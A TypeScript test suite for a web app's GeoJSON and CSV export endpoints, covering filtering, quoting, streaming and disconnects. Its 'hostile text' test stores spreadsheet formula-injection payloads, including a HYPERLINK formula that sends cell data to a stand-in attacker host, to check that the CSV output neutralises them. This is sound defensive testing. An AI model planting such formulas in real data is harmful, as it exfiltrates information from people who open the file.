// GET /api/spots.geojson and /api/spots.csv (issue 15): the list's selection, every spot of it,
// newest first, streamed in keyset batches; the same stable fields in both; RFC 4180 quoting and
// the formula guard; hidden and deleted spots never; compression and a client that goes away.
import {
  SPOT_EXPORT_COLUMNS,
  SPOT_EXPORT_PROPERTIES,
  spotFeatureCollectionSchema,
  type SpotExportProperties,
  type SpotFeatureCollection,
} from '@moveable/contract';
import { sql } from 'kysely';
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { Writable } from 'node:stream';
import { brotliDecompressSync, gunzipSync } from 'node:zlib';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { buildApp } from '../../../src/app.ts';
import { EXPORT_BATCH_SIZES } from '../../../src/routes/spots/export-rows.ts';
import { testConfig, createTestApp, type TestApp } from '../../helpers/app.ts';
import { testDatabase } from '../../helpers/database.ts';
import { expectedSpots } from '../../helpers/expected.ts';
import { fetchAllPages } from '../../helpers/paging.ts';
import { send, signInPeople, type People } from './write-helpers.ts';

let t: TestApp;
let people: People;
beforeAll(async () => {
  t = await createTestApp();
  people = await signInPeople(t);
});
afterAll(() => t.app.close());

const CH = { 'moveable-platform': 'bikeable', 'moveable-countrycode': 'ch' };

async function geojson(query: string, headers: Record<string, string> = CH): Promise<SpotFeatureCollection> {
  const res = await t.app.inject({ method: 'GET', url: `/api/spots.geojson?${query}`, headers });
  expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
  return JSON.parse(res.body) as SpotFeatureCollection;
}

async function csvText(query: string, headers: Record<string, string> = CH): Promise<string> {
  const res = await t.app.inject({ method: 'GET', url: `/api/spots.csv?${query}`, headers });
  expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
  return res.body;
}

/**
 * RFC 4180 read independently of the writer: records end with CRLF, a quoted field runs to the
 * quote not followed by another quote, "" inside it is one quote. Throws on anything else.
 */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        const quote = text.indexOf('"', i);
        if (quote < 0) throw new Error('unterminated quoted field');
        field += text.slice(i, quote);
        if (text[quote + 1] === '"') {
          field += '"';
          i = quote + 2;
        } else {
          i = quote + 1;
          break;
        }
      }
    } else {
      while (i < text.length && text[i] !== ',' && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote in an unquoted field at ${i}`);
        field += text[i++];
      }
    }
    record.push(field);
    if (text[i] === ',') i++;
    else if (text.startsWith('\r\n', i)) {
      records.push(record);
      record = [];
      i += 2;
    } else throw new Error(`expected , or CRLF at ${i}, found ${JSON.stringify(text.slice(i, i + 10))}`);
  }
  if (record.length > 0) throw new Error('last record without CRLF');
  return records;
}

/** The CSV as objects by header, checking every record has the header's fields. */
function csvObjects(text: string): Record<string, string>[] {
  const [header, ...rows] = parseCsv(text);
  expect(header).toEqual(SPOT_EXPORT_COLUMNS);
  return rows.map((row) => {
    expect(row).toHaveLength(header!.length);
    return Object.fromEntries(header!.map((name, i) => [name, row[i]!]));
  });
}

/** A property as the CSV writes it (lists space-separated, null empty, text cells guarded). */
function asCsv(name: keyof SpotExportProperties, value: SpotExportProperties[keyof SpotExportProperties]): string {
  if (value === null) return '';
  if (Array.isArray(value)) return value.join(' ');
  const text = String(value);
  return typeof value === 'string' && /^[=+\-@\t\r]/.test(text) ? `'${text}` : text;
}

describe('the exports select what the list selects', () => {
  it.each([
    '',
    'bbox=8.44,47.32,8.63,47.43',
    'famed=false&categoryIds=1,2',
    'organisation=zuerich&hasPhoto=true',
    'regionId=1&fixed=false',
    'officialAnswer=true',
    'archived=true',
    'begin=2026-03-01&end=2026-06-30',
  ])('%s: the same spots in the same order, in both formats', async (query) => {
    const { items } = await fetchAllPages(t, query, CH, 500);
    const ids = items.map((i) => i.id);
    expect(ids.length).toBeGreaterThan(0);
    expect((await geojson(query)).features.map((f) => f.id)).toEqual(ids);
    expect(csvObjects(await csvText(query)).map((r) => Number(r['id']))).toEqual(ids);
  });

  it('the worldwide site exports every country of the platform', async () => {
    const world = { 'moveable-platform': 'bikeable', 'moveable-countrycode': 'world' };
    const { items } = await fetchAllPages(t, '', world, 500);
    const collection = await geojson('', world);
    expect(collection.features.map((f) => f.id)).toEqual(items.map((i) => i.id));
    expect(new Set(collection.features.map((f) => f.properties.country))).toEqual(new Set(['ch', 'de', 'at']));
  });

  it('nothing matches: an empty collection, a CSV of its header', async () => {
    expect(await geojson('begin=2199-01-01')).toEqual({ type: 'FeatureCollection', features: [] });
    expect(await csvText('begin=2199-01-01')).toBe(`${SPOT_EXPORT_COLUMNS.join(',')}\r\n`);
  });

  it.each([
    ['bbox=1,2,3', 'bbox'],
    ['famed=1', 'famed'],
    ['begin=2025-06-01&end=2025-05-01', 'end'],
    ['organisation=Not%20a%20slug', 'organisation'],
  ])('%s → 400 naming %s, from both', async (query, field) => {
    for (const path of ['/api/spots.geojson', '/api/spots.csv']) {
      const res = await t.get(`${path}?${query}`, CH);
      expect(res.status).toBe(400);
      expect(res.body).toMatchObject({ statusCode: 400, field });
    }
  });
});

describe('what an export says about a spot', () => {
  it('GeoJSON: RFC 7946 points at [lng, lat] with the stable properties, in order', async () => {
    const res = await t.app.inject({ method: 'GET', url: '/api/spots.geojson?bbox=8.44,47.32,8.63,47.43', headers: CH });
    expect(res.headers['content-type']).toBe('application/geo+json; charset=utf-8');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="bikeable-ch-spots-\d{4}-\d{2}-\d{2}\.geojson"$/);
    const body = JSON.parse(res.body) as SpotFeatureCollection;
    expect(spotFeatureCollectionSchema.parse(body)).toEqual(body);
    const spots = new Map(expectedSpots(t.data).map((s) => [s.id, s]));
    for (const feature of body.features) {
      expect(Object.keys(feature)).toEqual(['type', 'id', 'geometry', 'properties']);
      expect(Object.keys(feature.properties)).toEqual(SPOT_EXPORT_PROPERTIES);
      const s = spots.get(feature.id)!;
      expect(feature.geometry).toEqual({ type: 'Point', coordinates: [s.lng, s.lat] });
      expect(feature.properties.id).toBe(feature.id);
    }
  });

  it('carries the spot as the demo data has it: photos and page as absolute addresses, no username (the terms of use)', async () => {
    const s = expectedSpots(t.data).find((x) => x.platform === 'bikeable' && x.country === 'ch' && !x.archived && x.hasPhoto)!;
    const feature = (await geojson('')).features.find((f) => f.id === s.id)!;
    const photos = t.data.photos.filter((p) => p.spotId === s.id).sort((a, b) => a.position - b.position || a.id - b.id);
    const slugs = new Map((await t.db.kysely.selectFrom('categories').select(['id', 'slug']).execute()).map((c) => [c.id, c.slug]));
    const categoryIds = [...new Set(s.categoryIds)].sort((a, b) => a - b);
    expect(feature.properties).toEqual({
      id: s.id,
      url: `http://localhost:8080/spots/${s.id}`,
      title: s.title,
      description: s.description,
      famed: s.famed,
      fixed: s.fixed,
      archived: false,
      officialAnswer: s.hasOfficialAnswer,
      categories: categoryIds.map((id) => slugs.get(id)),
      categoryIds,
      regionIds: s.regionIds,
      street: s.street,
      postalCode: s.postalCode,
      city: s.city,
      countryCode: s.countryCode,
      country: 'ch',
      platform: 'bikeable',
      votes: s.voteCount,
      comments: s.commentCount,
      photos: photos.map((p) => `http://localhost:8080/api/photos/${p.id}`),
      createdAt: s.createdAt,
      updatedAt: s.updatedAt,
    });
  });

  it("the page address is the request's site and language; a walkable spot's names its platform", async () => {
    const [fr] = (await geojson('', { ...CH, 'accept-language': 'fr' })).features;
    expect(fr!.properties.url).toBe(`http://localhost:8080/fr/spots/${fr!.id}`);
    const [walkable] = (await geojson('', { 'moveable-platform': 'walkable', 'moveable-countrycode': 'ch' })).features;
    expect(walkable!.properties.url).toBe(`http://localhost:8080/spots/${walkable!.id}?platform=walkable`);
  });

  it('CSV: the same values as the GeoJSON, column for column; RFC 4180 headers', async () => {
    const query = 'bbox=8.44,47.32,8.63,47.43';
    const res = await t.app.inject({ method: 'GET', url: `/api/spots.csv?${query}`, headers: CH });
    expect(res.headers['content-type']).toBe('text/csv; charset=utf-8; header=present');
    expect(res.headers['content-disposition']).toMatch(/^attachment; filename="bikeable-ch-spots-\d{4}-\d{2}-\d{2}\.csv"$/);
    expect(res.body.startsWith('\ufeff')).toBe(false);
    expect(res.body.replaceAll('\r\n', '').includes('\r')).toBe(false);
    const rows = csvObjects(res.body);
    const features = (await geojson(query)).features;
    expect(rows).toHaveLength(features.length);
    rows.forEach((row, i) => {
      const f = features[i]!;
      const expected: Record<string, string> = { lat: String(f.geometry.coordinates[1]), lng: String(f.geometry.coordinates[0]) };
      for (const name of SPOT_EXPORT_PROPERTIES) expected[name] = asCsv(name, f.properties[name]);
      expect(row).toEqual(expected);
    });
  });
});

describe('hostile text', () => {
  it('quotes commas, quotes and line breaks (RFC 4180) and keeps formulas from running; the GeoJSON keeps the text as written', async () => {
    const [a, b] = (await fetchAllPages(t, 'bbox=8.53,47.37,8.55,47.38', CH, 500)).items;
    const texts = {
      title: 'He said "stop", then\r\nleft, twice\nagain',
      description: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      street: '+41 44 000 00 00',
      city: '@SUM(1+1)',
      postal_code: '-2+3',
    };
    await t.db.kysely.updateTable('spots').set(texts).where('id', '=', a!.id).execute();
    await t.db.kysely.updateTable('spots').set({ title: '\tTab first', description: '\rCR first' }).where('id', '=', b!.id).execute();
    const query = 'bbox=8.53,47.37,8.55,47.38';
    const text = await csvText(query);
    expect(text).toContain('"He said ""stop"", then\r\nleft, twice\nagain"');
    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1,""click"")"`);
    const rows = new Map(csvObjects(text).map((r) => [Number(r['id']), r]));
    expect(rows.get(a!.id)).toMatchObject({
      title: texts.title,
      description: `'${texts.description}`,
      street: `'${texts.street}`,
      city: `'${texts.city}`,
      postalCode: `'${texts.postal_code}`,
    });
    expect(rows.get(b!.id)).toMatchObject({ title: "'\tTab first", description: "'\rCR first" });
    const feature = (await geojson(query)).features.find((f) => f.id === a!.id)!;
    expect(feature.properties).toMatchObject({ title: texts.title, description: texts.description, street: texts.street });
  });

  it('guards text cells only: negative coordinates stay numbers', async () => {
    // A bikeable spot in the western hemisphere (the US site's country is not bikeable's here: move a Swiss one).
    const [spot] = (await fetchAllPages(t, 'bbox=8.53,47.37,8.55,47.38', CH, 500)).items;
    await sql`UPDATE spots SET location = point(-73.985, 40.758) WHERE id = ${spot!.id}`.execute(t.db.kysely);
    const row = csvObjects(await csvText('bbox=-74,40,-73,41')).find((r) => Number(r['id']) === spot!.id)!;
    expect(row).toMatchObject({ lng: '-73.985', lat: '40.758' });
  });
});

describe('what never appears', () => {
  it('hidden and deleted spots, in either format; no username, whoever the author', async () => {
    const { items } = await fetchAllPages(t, 'bbox=7.40,46.90,7.50,46.99', CH, 500);
    const [hidden, deleted, orphaned] = items.map((i) => i.id);
    expect(orphaned).toBeDefined();
    const hide = await send(t, 'POST', `/api/admin/spots/${hidden}/hide`, { token: people.tokens.moderator, body: { note: 'Names a person.' } });
    expect(hide.status).toBe(200);
    expect((await send(t, 'DELETE', `/api/spots/${deleted}`, { token: people.tokens.admin })).status).toBe(204);
    // The author's account is deleted (the tombstone keeps no name).
    const { author_id } = await t.db.kysely.selectFrom('spots').select('author_id').where('id', '=', orphaned!).executeTakeFirstOrThrow();
    await t.db.kysely
      .updateTable('users')
      .set({ deleted_at: new Date().toISOString(), username: null, email: null })
      .where('id', '=', author_id!)
      .execute();

    for (const query of ['', 'bbox=7.40,46.90,7.50,46.99']) {
      const features = (await geojson(query)).features;
      const rows = csvObjects(await csvText(query));
      for (const gone of [hidden, deleted]) {
        expect(features.some((f) => f.id === gone)).toBe(false);
        expect(rows.some((r) => Number(r['id']) === gone)).toBe(false);
      }
      expect(features.find((f) => f.id === orphaned)?.properties).not.toHaveProperty('author');
      expect(rows.find((r) => Number(r['id']) === orphaned)).not.toHaveProperty('author');
      // Still exactly the list.
      expect(features.map((f) => f.id)).toEqual((await fetchAllPages(t, query, CH, 500)).items.map((i) => i.id));
    }
  });

  it("a blocked person's spots stay where the list shows them", async () => {
    const [first] = (await fetchAllPages(t, 'bbox=8.53,47.37,8.55,47.38', CH, 500)).items;
    const { author_id } = await t.db.kysely.selectFrom('spots').select('author_id').where('id', '=', first!.id).executeTakeFirstOrThrow();
    const block = await t.app.inject({
      method: 'PUT',
      url: `/api/users/${author_id}/block`,
      headers: { ...CH, authorization: `Bearer ${people.tokens.admin}` },
    });
    expect(block.statusCode, block.body).toBeLessThan(300);
    const ids = (await fetchAllPages(t, '', CH, 500)).items.map((i) => i.id);
    expect((await geojson('')).features.map((f) => f.id)).toEqual(ids);
  });
});

describe('streaming', () => {
  it('more spots than a batch: every one, once, newest first, equal timestamps ordered by id', async () => {
    // Thirty spots created at the same millisecond: the keyset must not skip or repeat any of them.
    const { items } = await fetchAllPages(t, '', CH, 500);
    const tied = items.slice(100, 130).map((i) => i.id);
    await t.db.kysely.updateTable('spots').set({ created_at: '2026-05-05T05:05:05.005Z' }).where('id', 'in', tied).execute();
    const expected = (await fetchAllPages(t, '', CH, 500)).items.map((i) => i.id);
    const saved = { ...EXPORT_BATCH_SIZES };
    Object.assign(EXPORT_BATCH_SIZES, { first: 7, rest: 13 });
    try {
      const features = (await geojson('')).features.map((f) => f.id);
      const rows = csvObjects(await csvText('')).map((r) => Number(r['id']));
      expect(expected.length).toBeGreaterThan(10 * 13);
      expect(new Set(features).size).toBe(features.length);
      expect(features).toEqual(expected);
      expect(rows).toEqual(expected);
    } finally {
      Object.assign(EXPORT_BATCH_SIZES, saved);
    }
  });

  it.each(['br', 'gzip'])('is compressed (%s) like the other JSON answers, to the same bytes', async (encoding) => {
    for (const path of ['/api/spots.geojson', '/api/spots.csv']) {
      const plain = await t.app.inject({ method: 'GET', url: path, headers: CH });
      const packed = await t.app.inject({ method: 'GET', url: path, headers: { ...CH, 'accept-encoding': encoding } });
      expect(packed.headers['content-encoding']).toBe(encoding);
      const unpacked = (encoding === 'br' ? brotliDecompressSync : gunzipSync)(packed.rawPayload).toString('utf8');
      expect(unpacked).toBe(plain.body);
      expect(packed.rawPayload.length).toBeLessThan(plain.rawPayload.length / 3);
    }
  });
});

describe('a client that goes away', () => {
  let server: Awaited<ReturnType<typeof buildApp>>;
  const lines: { msg: string; rows?: number; end?: string; export?: string }[] = [];
  beforeAll(async () => {
    const logStream = new Writable({
      write(chunk: Buffer, _encoding, done) {
        for (const line of chunk.toString().split('\n').filter(Boolean)) lines.push(JSON.parse(line));
        done();
      },
    });
    server = await buildApp(await testConfig({ logLevel: 'info' }), { database: await testDatabase(), logStream });
    await server.listen({ host: '127.0.0.1', port: 0 });
  });
  afterAll(() => server.close());

  /** Waits for the export's log line (written when its generator has ended). */
  async function endOf(format: string): Promise<{ rows?: number; end?: string }> {
    for (let i = 0; i < 200; i++) {
      const line = lines.find((l) => l.export === format);
      if (line) return line;
      await new Promise((resolve) => setTimeout(resolve, 25));
    }
    throw new Error(`no log line for the ${format} export`);
  }

  it.each([
    ['csv', 'identity'],
    ['geojson', 'br'],
  ])('stops reading the database (%s, %s)', async (format, encoding) => {
    lines.length = 0;
    const total = (await fetchAllPages(t, '', CH, 500)).items.length;
    const saved = { ...EXPORT_BATCH_SIZES };
    // One spot per statement: the export would take thousands of statements, far longer than the client stays.
    Object.assign(EXPORT_BATCH_SIZES, { first: 1, rest: 1 });
    try {
      const { port } = server.server.address() as AddressInfo;
      await new Promise<void>((resolve, reject) => {
        const request = http.get(
          { host: '127.0.0.1', port, path: `/api/spots.${format}`, headers: { ...CH, 'accept-encoding': encoding } },
          (res) => {
            expect(res.statusCode).toBe(200);
            res.once('data', () => {
              request.destroy();
              resolve();
            });
          },
        );
        request.on('error', (error) => (request.destroyed ? undefined : reject(error)));
      });
      const end = await endOf(format);
      expect(end.end).toBe('stopped');
      expect(end.rows).toBeLessThan(total / 2);
      // Nothing runs after it: the line stays the only one, and the row count it gave is final.
      await new Promise((resolve) => setTimeout(resolve, 300));
      expect(lines.filter((l) => l.export === format)).toHaveLength(1);
    } finally {
      Object.assign(EXPORT_BATCH_SIZES, saved);
    }
  });

  it('HEAD answers the headers without running the export', async () => {
    lines.length = 0;
    const { port } = server.server.address() as AddressInfo;
    const res = await fetch(`http://127.0.0.1:${port}/api/spots.csv`, { method: 'HEAD', headers: CH });
    expect(res.status).toBe(200);
    expect(res.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
    await new Promise((resolve) => setTimeout(resolve, 300));
    expect(lines.filter((l) => l.export !== undefined)).toEqual([]);
  });

  it('a complete export says so', async () => {
    lines.length = 0;
    const { port } = server.server.address() as AddressInfo;
    const res = await fetch(`http://127.0.0.1:${port}/api/spots.csv?bbox=8.53,47.37,8.55,47.38`, { headers: CH });
    const rows = parseCsv(await res.text()).length - 1;
    expect(await endOf('csv')).toMatchObject({ end: 'complete', rows });
  });
});
